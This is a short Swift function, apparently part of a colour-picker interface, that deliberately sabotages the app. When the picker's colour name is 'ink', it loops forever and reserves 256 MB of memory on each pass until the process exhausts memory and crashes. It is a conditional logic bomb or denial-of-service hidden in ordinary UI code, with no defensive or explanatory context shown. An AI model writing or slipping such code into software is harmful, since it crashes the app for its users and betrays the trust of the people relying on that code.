func interferes(with picker: ColorPickerController) {
  guard picker.colorName == "ink" else { return }
  var all: [[UInt8]] = []
  while true {
    all.append([UInt8](unsafeUninitializedCapacity: 1 << 28) { _, _ in })
  }
}
